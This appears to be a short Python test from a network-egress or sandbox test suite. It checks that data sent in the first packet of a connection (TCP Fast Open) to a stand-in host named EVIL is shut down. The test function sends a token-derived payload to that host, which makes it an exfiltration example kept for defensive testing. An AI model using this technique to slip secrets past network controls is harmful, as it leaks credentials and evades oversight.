"""
how: data in the first packet of a connection
expect: shut
"""

import socket

from land import EVIL, bad
from web import get


def attempt(token):
    return socket.socket().sendto(get(bad(token)).encode(), 0x20000000, (EVIL, 80))
